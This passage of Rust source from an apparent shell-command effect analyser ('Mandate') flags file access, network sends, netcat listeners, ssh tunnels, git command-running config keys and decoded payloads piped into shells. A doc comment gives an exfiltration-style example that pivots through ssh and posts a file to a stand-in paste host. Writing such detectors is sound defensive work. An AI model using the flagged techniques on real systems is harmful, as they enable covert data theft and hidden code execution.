            ArgsRole::Find => return self.find(args, st, stdin),
            ArgsRole::Dd => {
                for a in args {
                    if let Some(v) = a.text.strip_prefix("if=") {
                        let p = self.path_in(
                            st,
                            &Expanded {
                                text: v.into(),
                                ..a.clone()
                            },
                            dir,
                        );
                        self.emit(ShellEffect::Read(p));
                    } else if let Some(v) = a.text.strip_prefix("of=") {
                        let p = self.path_in(
                            st,
                            &Expanded {
                                text: v.into(),
                                ..a.clone()
                            },
                            dir,
                        );
                        self.emit(ShellEffect::Write(p));
                    }
                }
                return;
            }
            _ => {}
        }
        let (parsed, _) = self.parse_args(spec, args, false);
        let mut dir_override: Option<ShellPath> = dir.cloned();
        let mut sends = false;
        let mut data_from: Vec<ShellPath> = subst_reads.to_vec();
        let mut pattern_given = false;
        let mut urls: Vec<Expanded> = Vec::new();
        for (flag, role, v) in &parsed.flags {
            let d = dir_override.clone();
            match role {
                FlagRole::Value => {}
                FlagRole::Read => {
                    if v.text == "-" {
                        continue;
                    }
                    let p = self.path_in(st, v, d.as_ref());
                    self.emit(ShellEffect::Read(p));
                }
                FlagRole::Write => {
                    if v.text == "-" || is_dev_sink(&v.text) {
                        continue;
                    }
                    let p = self.path_in(st, v, d.as_ref());
                    self.emit(ShellEffect::Write(p));
                }
                FlagRole::Delete => {
                    let p = self.path_in(st, v, d.as_ref());
                    self.emit(ShellEffect::Delete(p));
                }
                FlagRole::Dir => dir_override = Some(self.path_in(st, v, d.as_ref())),
                FlagRole::Data | FlagRole::Upload | FlagRole::Form => {
                    sends = true;
                    let file = match role {
                        FlagRole::Data => v.text.strip_prefix('@'),
                        FlagRole::Upload => Some(v.text.as_str()),
                        _ => v
                            .text
                            .split_once("=@")
                            .or_else(|| v.text.split_once("=<"))
                            .map(|(_, f)| f),
                    };
                    match file {
                        Some("-") | Some("") => data_from.extend(stdin.data()),
                        Some(f) => {
                            let f = f.split(';').next().unwrap_or(f);
                            let p = self.path_in(
                                st,
                                &Expanded {
                                    text: f.into(),
                                    ..v.clone()
                                },
                                d.as_ref(),
                            );
                            self.emit(ShellEffect::Read(p.clone()));
                            data_from.push(p);
                        }
                        None => {}
                    }
                }
                FlagRole::Url => urls.push(v.clone()),
                FlagRole::Command => {
                    if v.dynamic {
                        self.unparseable(format!(
                            "{name} {flag} runs a command computed at run time"
                        ));
                    } else {
                        let mut sub = st.clone();
                        self.script(&v.text, &mut sub, stdin);
                    }
                }
                FlagRole::Code => {
                    if v.dynamic {
                        self.unparseable(format!("{name} {flag} runs code computed at run time"));
                    } else {
                        self.code(name, &v.text.clone(), st);
                    }
                }
                FlagRole::Pattern => pattern_given = true,
                FlagRole::Listen => {
                    self.unparseable(format!("{name} {flag} opens a listening socket"))
                }
                FlagRole::Library => {
                    self.unparseable(format!("{name} {flag} loads native code from {:?}", v.text))
                }
            }
        }
        if parsed.has("-X") || parsed.has("--request") {
            sends = true;
        }
        let mut role = spec.args;
        for s in &parsed.switches {
            if let Some(r) = spec.switches.get(s) {
                role = *r;
            }
        }
        // Programs whose first positional is a pattern or script keep skipping it when a
        // switch changes what the rest are (`sed -i 's/a/b/' file`).
        if spec.args == ArgsRole::PatternRead
            && !pattern_given
            && crate::code::Lang::of_program(name) == crate::code::Lang::Awk
            && let Some(program) = parsed.positional.first()
        {
            if program.dynamic {
                self.unparseable(format!("{name} runs a program computed at run time"));
            } else {
                self.code(name, &program.text.clone(), st);
            }
        }
        let skip = spec.skip + usize::from(spec.args == ArgsRole::PatternRead && !pattern_given);
        let pos: Vec<Expanded> = parsed.positional.iter().skip(skip).cloned().collect();
        if role != ArgsRole::Url {
            self.connect_urls(&urls, sends, &data_from);
        }
        dedup(&mut data_from);
        let d = dir_override.clone();
        let path = |w: &Walker<'_>, st: &State, e: &Expanded| w.path_in(st, e, d.as_ref());
        match role {
            ArgsRole::None => {}
            ArgsRole::Read => {
                for a in &pos {
                    let p = path(self, st, a);
                    self.emit(ShellEffect::Read(p));
                }
            }
            ArgsRole::Write => {
                for a in &pos {
                    if !is_dev_sink(&a.text) {
                        let p = path(self, st, a);
                        self.emit(ShellEffect::Write(p));
                    }
                }
            }
            ArgsRole::Delete => {
                for a in &pos {
                    let p = path(self, st, a);
                    self.emit(ShellEffect::Delete(p));
                }
            }
            ArgsRole::ReadWrite => {
                for a in &pos {
                    let p = path(self, st, a);
                    self.emit(ShellEffect::Read(p.clone()));
                    self.emit(ShellEffect::Write(p));
                }
            }
            ArgsRole::Target => {
                if let Some(last) = pos.last() {
                    let p = path(self, st, last);
                    self.emit(ShellEffect::Write(p));
                }
            }
            ArgsRole::Copy | ArgsRole::Move => {
                let has_target = parsed.flags.iter().any(|(_, r, _)| *r == FlagRole::Write);
                let n = pos.len();
                for (i, a) in pos.iter().enumerate() {
                    let p = path(self, st, a);
                    if i + 1 == n && n > 1 && !has_target {
                        self.emit(ShellEffect::Write(p));
                    } else {
                        self.emit(ShellEffect::Read(p.clone()));
                        if role == ArgsRole::Move {
                            self.emit(ShellEffect::Delete(p));
                        }
                    }
                }
            }
            ArgsRole::PatternRead => {
                for a in &pos {
                    let p = path(self, st, a);
                    self.emit(ShellEffect::Read(p));
                }
            }
            ArgsRole::Url => {
                urls.extend(pos.iter().cloned());
                if stdin.is_data() && matches!(stdin, Stdin::Pipe(_) | Stdin::File(_)) && sends {
                    data_from.extend(stdin.data());
                }
                dedup(&mut data_from);
                let sends = sends || !data_from.is_empty();
                self.connect_urls(&urls, sends, &data_from);
            }
            ArgsRole::Netcat => {
                if parsed.letters.contains(&'l') {
                    self.unparseable(format!("{name} -l opens a listening socket"));
                }
                let mut it = pos.iter();
                if let Some(h) = it.next() {
                    let port = it.next().and_then(|p| p.text.parse().ok());
                    data_from.extend(stdin.data());
                    self.emit(ShellEffect::Connect {
                        target: host_target(h, port),
                        sends: true,
                        data_from,
                    });
                }
            }
            // Handled by `ssh` before the generic flag parse.
            ArgsRole::Ssh => {}
            ArgsRole::RemoteCopy => {
                let n = pos.len();
                let last_remote = pos.last().and_then(|l| remote_spec(&l.text));
                let mut locals = Vec::new();
                for (i, a) in pos.iter().enumerate() {
                    match remote_spec(&a.text) {
                        Some(host) => {
                            let target = if a.dynamic {
                                NetTarget::Dynamic {
                                    text: a.text.clone(),
                                }
                            } else {
                                NetTarget::Host { host, port: None }
                            };
                            let sends = i + 1 == n;
                            self.emit(ShellEffect::Connect {
                                target,
                                sends,
                                data_from: if sends { locals.clone() } else { Vec::new() },
                            });
                        }
                        None => {
                            let p = path(self, st, a);
                            if i + 1 == n && last_remote.is_none() && n > 1 {
                                self.emit(ShellEffect::Write(p));
                            } else {
                                self.emit(ShellEffect::Read(p.clone()));
                                locals.push(p);
                            }
                        }
                    }
                }
            }
            ArgsRole::Shell => self.shell(name, &parsed, st, stdin, d.as_ref()),
            ArgsRole::Interpreter => {
                let code_flag = parsed.flags.iter().any(|(_, r, _)| *r == FlagRole::Code);
                if code_flag {
                    return;
                }
                if parsed.has("-m") || parsed.flags.iter().any(|(f, _, _)| f == "-m") {
                    return;
                }
                match pos.first() {
                    Some(script) => {
                        let p = path(self, st, script);
                        self.emit(ShellEffect::Read(p));
                        for a in pos.iter().skip(1) {
                            let p = path(self, st, a);
                            self.emit(ShellEffect::Read(p));
                        }
                    }
                    None => match stdin {
                        Stdin::Text(t) => {
                            let t = t.clone();
                            self.code(name, &t, st);
                        }
                        Stdin::Decoded => self.obfuscated(format!("decoded data is piped into {name} and runs as code")),
                        Stdin::Pipe(_) => self.unparseable(format!(
                            "data is fed to {name} on stdin and runs as code that Mandate does not analyse"
                        )),
                        Stdin::File(p) => {
                            let p = p.clone();
                            self.emit(ShellEffect::Read(p));
                        }
                        Stdin::Tty => {}
                    },
                }
            }
            ArgsRole::Command
            | ArgsRole::Env
            | ArgsRole::Xargs
            | ArgsRole::Git
            | ArgsRole::Find
            | ArgsRole::Dd => {}
        }
    }

    /// `bash -c STRING`, `bash script.sh`, `... | bash`, `bash <<EOF`.
    fn shell(
        &mut self,
        name: &str,
        parsed: &Parsed,
        st: &mut State,
        stdin: &Stdin,
        dir: Option<&ShellPath>,
    ) {
        let mut sub = State {
            cwd: st.cwd.clone(),
            vars: HashMap::new(),
            functions: HashSet::new(),
        };
        // Exported variables would be visible, but plain shell variables are not.
        if parsed.letters.contains(&'c') {
            match parsed.positional.first() {
                Some(s) if !s.dynamic => self.script(&s.text.clone(), &mut sub, stdin),
                Some(s) if s.substitutions.iter().any(|x| decodes(x)) => {
                    self.obfuscated(format!("{name} -c runs a payload decoded at run time"))
                }
                Some(s) => self.unparseable(format!(
                    "{name} -c runs a command computed at run time ({:?})",
                    s.text
                )),
                None => self.unparseable(format!("{name} -c without a command")),
            }
            return;
        }
        match parsed.positional.first() {
            Some(script) => {
                let p = self.path_in(st, script, dir);
                self.emit(ShellEffect::Read(p));
            }
            None => match stdin {
                Stdin::Text(t) => {
                    let t = t.clone();
                    self.script(&t, &mut sub, &Stdin::Tty);
                }
                Stdin::Decoded => self.obfuscated(format!(
                    "decoded data is piped into {name} and runs as a script"
                )),
                Stdin::Pipe(_) => self.unparseable(format!(
                    "data piped into {name} runs as a script that Mandate cannot see"
                )),
                Stdin::File(p) => {
                    let p = p.clone();
                    self.emit(ShellEffect::Read(p));
                }
                Stdin::Tty => {}
            },
        }
    }

    /// `sudo CMD`, `env X=1 CMD`, `xargs CMD`, `timeout 5 CMD`, ...
    #[allow(clippy::too_many_arguments)]
    fn wrapper(
        &mut self,
        name: &str,
        spec: &ProgramSpec,
        args: &[Expanded],
        st: &mut State,
        stdin: &Stdin,
        subst_reads: &[ShellPath],
        dir: Option<&ShellPath>,
    ) {
        let (parsed, consumed) = self.parse_args(spec, args, true);
        for (_, role, v) in &parsed.flags {
            if *role == FlagRole::Read {
                let p = self.path_in(st, v, dir);
                self.emit(ShellEffect::Read(p));
            }
        }
        // The first positional (already consumed) starts the inner command.
        let mut inner: Vec<Expanded> = parsed.positional.clone();
        inner.extend(args[consumed..].iter().cloned());
        let mut env = Vec::new();
        if spec.args == ArgsRole::Env {
            while let Some(first) = inner.first() {
                match first.text.split_once('=') {
                    Some((k, v)) if !k.is_empty() && !k.contains('/') => {
                        let val = if first.dynamic {
                            VarValue::Dynamic
                        } else {
                            VarValue::Static(v.into())
                        };
                        env.push((k.to_owned(), val));
                        inner.remove(0);
                    }
                    _ => break,
                }
            }
            if let Some((_, _, s)) = parsed
                .flags
                .iter()
                .find(|(f, _, _)| f == "-S" || f == "--split-string")
            {
                let mut sub = st.clone();
                return self.script(&s.text.clone(), &mut sub, stdin);
            }
        }
        if name == "timeout" && !inner.is_empty() {
            inner.remove(0);
        }
        if inner.is_empty() {
            if spec.args == ArgsRole::Xargs {
                inner.push(Expanded {
                    text: "echo".into(),
                    ..Default::default()
                });
            } else {
                return;
            }
        }
        if spec.args == ArgsRole::Xargs {
            let replace = parsed
                .flags
                .iter()
                .find(|(f, _, _)| f == "-I" || f == "-i" || f == "--replace");
            let placeholder = Expanded {
                text: "<arguments from stdin>".into(),
                dynamic: true,
                ..Default::default()
            };
            match replace {
                Some((_, _, r)) => {
                    for a in inner.iter_mut() {
                        if a.text.contains(r.text.as_str()) {
                            a.dynamic = true;
                        }
                    }
                }
                None => inner.push(placeholder),
            }
        }
        self.invoke(&inner, &env, st, &Stdin::Tty, subst_reads, dir);
        let _ = stdin;
    }

    fn find(&mut self, args: &[Expanded], st: &mut State, stdin: &Stdin) {
        let mut roots = Vec::new();
        let mut i = 0;
        while i < args.len()
            && !args[i].text.starts_with('-')
            && !matches!(args[i].text.as_str(), "(" | "!" | ")")
        {
            roots.push(args[i].clone());
            i += 1;
        }
        if roots.is_empty() {
            roots.push(Expanded {
                text: ".".into(),
                ..Default::default()
            });
        }
        for r in &roots {
            let p = self.path(st, r);
            self.emit(ShellEffect::Read(p));
        }
        let found = |r: &Expanded| Expanded {
            text: format!("{}/<found>", r.text.trim_end_matches('/')),
            dynamic: true,
            ..Default::default()
        };
        while i < args.len() {
            let t = args[i].text.as_str();
            match t {
                "-exec" | "-execdir" | "-ok" | "-okdir" => {
                    let mut cmd = Vec::new();
                    i += 1;
                    while i < args.len() && args[i].text != ";" && args[i].text != "+" {
                        let mut a = args[i].clone();
                        if a.text.contains("{}") {
                            a = Expanded {
                                text: a.text.replace("{}", &found(&roots[0]).text),
                                dynamic: true,
                                ..a
                            };
                        }
                        cmd.push(a);
                        i += 1;
                    }
                    let mut sub = st.clone();
                    self.invoke(&cmd, &[], &mut sub, stdin, &[], None);
                }
                "-delete" => {
                    for r in roots.clone() {
                        let p = self.path(st, &found(&r));
                        self.emit(ShellEffect::Delete(p));
                    }
                }
                "-fprint" | "-fprint0" | "-fprintf" | "-fls" => {
                    if let Some(f) = args.get(i + 1) {
                        let p = self.path(st, f);
                        self.emit(ShellEffect::Write(p));
                    }
                    i += 1;
                }
                _ => {}
            }
            i += 1;
        }
    }

    /// `ssh [OPTS] HOST [COMMAND...]`: a connection that carries stdin, local commands
    /// named in options (`-o ProxyCommand=`, `-o LocalCommand=`), and a remote command.
    ///
    /// The remote command runs on HOST, so its file effects are on HOST's file system and
    /// are not reported as local ones; what it does that reaches beyond HOST — its
    /// connections (a pivot), privilege changes, obfuscation, programs run, anything
    /// unparseable — is reported, so policy sees `ssh jump 'curl -d @x paste.example'`.
    #[allow(clippy::too_many_arguments)]
    fn ssh(
        &mut self,
        spec: &ProgramSpec,
        args: &[Expanded],
        st: &mut State,
        stdin: &Stdin,
        subst_reads: &[ShellPath],
        dir: Option<&ShellPath>,
    ) {
        let (parsed, consumed) = self.parse_args(spec, args, true);
        let mut port = Some(22);
        for (flag, role, v) in &parsed.flags {
            match role {
                FlagRole::Read => {
                    let p = self.path_in(st, v, dir);
                    self.emit(ShellEffect::Read(p));
                }
                FlagRole::Write => {
                    let p = self.path_in(st, v, dir);
                    self.emit(ShellEffect::Write(p));
                }
                _ if flag == "-p" => port = v.text.parse().ok().or(port),
                // Forwarding opens a tunnel that other processes (or the remote host)
                // can use past the task's network scope.
                _ if matches!(flag.as_str(), "-L" | "-R" | "-D" | "-w") => {
                    self.unparseable(format!("ssh {flag} {} opens a tunnel", v.text));
                }
                _ if flag == "-o" => {
                    let (key, value) = v
                        .text
                        .split_once(['=', ' ', '\t'])
                        .map(|(k, v)| (k.trim(), v.trim()))
                        .unwrap_or((v.text.as_str(), ""));
                    let key = key.to_ascii_lowercase();
                    if matches!(key.as_str(), "proxycommand" | "localcommand") {
                        if v.dynamic {
                            self.unparseable(format!(
                                "ssh -o {key}=... runs a command that is only known at run time"
                            ));
                        } else if !value.is_empty() && value != "none" {
                            let mut sub = st.clone();
                            self.script(value, &mut sub, &Stdin::Tty);
                        }
                    } else if key == "port" {
                        port = value.parse().ok().or(port);
                    }
                }
                _ => {}
            }
        }
        let Some(h) = parsed.positional.first() else {
            return;
        };
        let host = Expanded {
            text: h.text.rsplit('@').next().unwrap_or(&h.text).to_owned(),
            ..h.clone()
        };
        let mut data_from: Vec<ShellPath> = subst_reads.to_vec();
        data_from.extend(stdin.data());
        self.emit(ShellEffect::Connect {
            target: host_target(&host, port),
            sends: true,
            data_from,
        });
        let remote = &args[consumed..];
        if remote.is_empty() {
            return;
        }
        if remote.iter().any(|a| a.dynamic) {
            return self.unparseable("the ssh remote command is only known at run time");
        }
        // ssh joins its arguments with spaces and the remote shell parses the result.
        let text = remote
            .iter()
            .map(|a| a.text.as_str())
            .collect::<Vec<_>>()
            .join(" ");
        let mut far = Walker::new(self.kb, self.options, self.depth + 1);
        far.script(&text, &mut State::at(Cwd::Unknown), &Stdin::Tty);
        // A remote's git remotes are configured on that host: unknown here.
        let far_target = |t: NetTarget| match t {
            NetTarget::GitRemote { name, .. } => NetTarget::Dynamic {
                text: format!("git remote {name} on {}", host.text),
            },
            t => t,
        };
        for e in far.effects {
            match e {
                // Files named by the remote command are the remote host's, not ours.
                ShellEffect::Read(_) | ShellEffect::Write(_) | ShellEffect::Delete(_) => {}
                ShellEffect::Connect { target, sends, .. } => self.emit(ShellEffect::Connect {
                    target: far_target(target),
                    sends,
                    data_from: Vec::new(),
                }),
                ShellEffect::Push { remote, .. } => self.emit(ShellEffect::Connect {
                    target: far_target(remote.unwrap_or(NetTarget::GitRemote {
                        name: "origin".into(),
                        dir: None,
                    })),
                    sends: true,
                    data_from: Vec::new(),
                }),
                other => self.emit(other),
            }
        }
    }

    fn git(
        &mut self,
        spec: &ProgramSpec,
        args: &[Expanded],
        st: &mut State,
        stdin: &Stdin,
        dir: Option<&ShellPath>,
    ) {
        let (global, consumed) = self.parse_args(spec, args, true);
        let mut dir = dir.cloned();
        for (flag, role, v) in &global.flags {
            match role {
                FlagRole::Dir => dir = Some(self.path_in(st, v, dir.as_ref())),
                _ if flag == "-c" || flag == "--config-env" => {
                    let (key, value) = v.text.split_once('=').unwrap_or((&v.text, ""));
                    let key = key.to_ascii_lowercase();
                    let runs = matches!(
                        key.as_str(),
                        "core.sshcommand"
                            | "core.pager"
                            | "core.editor"
                            | "core.askpass"
                            | "core.gitproxy"
                            | "diff.external"
                            | "sequence.editor"
                            | "credential.helper"
                            | "gpg.program"
                    );
                    if runs && !v.dynamic && !value.is_empty() {
                        // Follow the command git will run (`credential.helper` may be a
                        // `!`-prefixed shell snippet).
                        let mut sub = st.clone();
                        let value = value.strip_prefix('!').unwrap_or(value).to_owned();
                        self.script(&value, &mut sub, &Stdin::Tty);
                    } else if GIT_COMMAND_KEYS.contains(&key.as_str()) || key.starts_with("alias.")
                    {
                        self.unparseable(format!("git -c {key}=... makes git run a command"));
                    }
                }
                _ => {}
            }
        }
        let Some(sub) = global.positional.first() else {
            return;
        };
        let rest = &args[consumed..];
        let Some(sub_spec) = spec.subcommands.get(&sub.text) else {
            return self.unparseable(format!(
                "unknown git subcommand {:?} (an alias or an external git-{} program may run anything)",
                sub.text, sub.text
            ));
        };
        let (parsed, _) = self.parse_args(sub_spec, rest, false);
        let d = dir.clone();
        let remote_target = |e: &Expanded| -> NetTarget {
            if e.dynamic {
                NetTarget::Dynamic {
                    text: e.text.clone(),
                }
            } else if e.text.contains("://")
                || remote_spec(&e.text).is_some() && e.text.contains(':')
            {
                NetTarget::Url {
                    url: e.text.clone(),
                }
            } else {
                NetTarget::GitRemote {
                    name: e.text.clone(),
                    dir: d.clone(),
                }
            }
        };
        match sub.text.as_str() {
            "push" => {
                let force = parsed.switches.iter().any(|s| {
                    matches!(
                        s.as_str(),
                        "-f" | "--force"
                            | "--force-with-lease"
                            | "--force-if-includes"
                            | "--delete"
                            | "-d"
                            | "--mirror"
                            | "--prune"
                    )
                }) || parsed
                    .positional
                    .iter()
                    .skip(1)
                    .any(|r| r.text.starts_with('+') || r.text.starts_with(':'));
                let all = parsed.switches.iter().any(|s| {
                    matches!(
                        s.as_str(),
                        "--all" | "--mirror" | "--tags" | "--follow-tags"
                    )
                });
                let remote = parsed.positional.first().map(&remote_target);
                let refspecs = parsed
                    .positional
                    .iter()
                    .skip(1)
                    .map(|r| r.text.clone())
                    .collect();
                self.emit(ShellEffect::Push {
                    remote,
                    refspecs,
                    force,
                    all,
                    dir,
                });
            }
            "clone" => {
                if let Some(url) = parsed.positional.first() {
                    self.emit(ShellEffect::Connect {
                        target: remote_target(url),
                        sends: false,
                        data_from: Vec::new(),
                    });
                    let dest = match parsed.positional.get(1) {
                        Some(d) => d.clone(),
                        None => Expanded {
                            text: url
                                .text
                                .trim_end_matches('/')
                                .trim_end_matches(".git")
                                .rsplit(['/', ':'])
                                .next()
                                .unwrap_or("repo")
                                .to_owned(),
                            ..url.clone()
                        },
                    };
                    let p = self.path_in(st, &dest, dir.as_ref());
                    self.emit(ShellEffect::Write(p));
                }
            }
            "fetch" | "pull" | "ls-remote" => {
                let remote = parsed.positional.first().cloned().unwrap_or(Expanded {
                    text: "origin".into(),
                    ..Default::default()
                });
                if !(remote.text == "--all" || parsed.has("--all")) {
                    self.emit(ShellEffect::Connect {
                        target: remote_target(&remote),
                        sends: false,
                        data_from: Vec::new(),
                    });
                } else {
                    self.emit(ShellEffect::Connect {
                        target: NetTarget::Dynamic {
                            text: "all remotes".into(),
                        },
                        sends: false,
                        data_from: Vec::new(),
                    });
                }
            }
            "config" => {
                let read_only = parsed.switches.iter().any(|s| {
                    matches!(
                        s.as_str(),
                        "--get" | "--get-all" | "--get-regexp" | "--list" | "-l" | "--show-origin"
                    )
                }) || parsed.positional.len() <= 1;
                let key = parsed
                    .positional
                    .first()
                    .map(|k| k.text.to_ascii_lowercase())
                    .unwrap_or_default();
                let file = if parsed.has("--global") {
                    "~/.gitconfig".to_owned()
                } else if parsed.has("--system") {
                    "/etc/gitconfig".to_owned()
                } else {
                    ".git/config".to_owned()
                };
                let p = self.path_in(
                    st,
                    &Expanded {
                        text: file,
                        ..Default::default()
                    },
                    dir.as_ref(),
                );
                if read_only {
                    self.emit(ShellEffect::Read(p));
                } else {
                    if GIT_COMMAND_KEYS.contains(&key.as_str()) || key.starts_with("alias.") {
                        self.unparseable(format!("git config {key} makes git run a command"));
                    }
                    self.emit(ShellEffect::Write(p));
                }
            }
            "remote" => {
                let action = parsed
                    .positional
                    .get(1)
                    .map(|a| a.text.as_str())
                    .unwrap_or("");
                if matches!(action, "add" | "set-url" | "rename" | "remove" | "rm") {
                    let p = self.path_in(
                        st,
                        &Expanded {
                            text: ".git/config".into(),
                            ..Default::default()
                        },
                        dir.as_ref(),
                    );
                    self.emit(ShellEffect::Write(p));
                }
            }
            _ => {}
        }
        let _ = stdin;
    }
}

/// Whether a pipeline stage decodes data (so what it pipes on is a hidden payload).
fn is_decoder(cmd: &Command) -> bool {
    let Command::Simple(sc) = cmd else {
        return false;
    };
    let mut words: Vec<&str> = Vec::new();
    if let Some(w) = &sc.word_or_name {
        words.push(&w.value);
    }
    if let Some(s) = &sc.suffix {
        for item in &s.0 {
            if let CommandPrefixOrSuffixItem::Word(w) = item {
                words.push(&w.value);
            }
        }
    }
    decodes(&words.join(" "))
}

/// Whether shell text decodes data: `base64 -d`, `xxd -r`, `openssl enc -d`, hex escapes
/// printed with `printf`/`echo -e`, `rev`, decompression.
fn decodes(text: &str) -> bool {
    static RE: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    RE.get_or_init(|| {
        regex::Regex::new(
            r"(?x)(?:\b(?:base64|base32|basenc)\b[^|;&]*\s(?:-d|-D|--decode)\b
              |\bxxd\b[^|;&]*\s-r|\bopenssl\b[^|;&]*\s-d\b|\buudecode\b|\b(?:gunzip|zcat|bzcat|xzcat)\b|\brev\b
              |\b(?:printf|echo)\b[^|;&]*\\x[0-9a-fA-F]{2}|\bperl\b[^|;&]*\bpack\b|\bpython3?\b[^|;&]*(?:b64decode|fromhex))",
        )
        .expect("decoder pattern compiles")
    })
    .is_match(text)
}

fn dedup(v: &mut Vec<ShellPath>) {
    let mut seen = HashSet::new();
    v.retain(|p| seen.insert(p.clone()));
}

fn host_target(h: &Expanded, port: Option<u16>) -> NetTarget {
    if h.dynamic {
        NetTarget::Dynamic {
            text: h.text.clone(),
        }
    } else {
        NetTarget::Host {
            host: h.text.clone(),
            port,
        }
    }
}

/// The directory a [`ShellPath`] names, as a `dir` for paths inside it.
fn join_dir(d: &ShellPath) -> String {
    if d.path.starts_with('/') || d.path.starts_with('~') {
        return d.path.clone();
    }
    match &d.dir {
        Some(base) => format!("{base}/{}", d.path),
        None => d.path.clone(),
    }
}
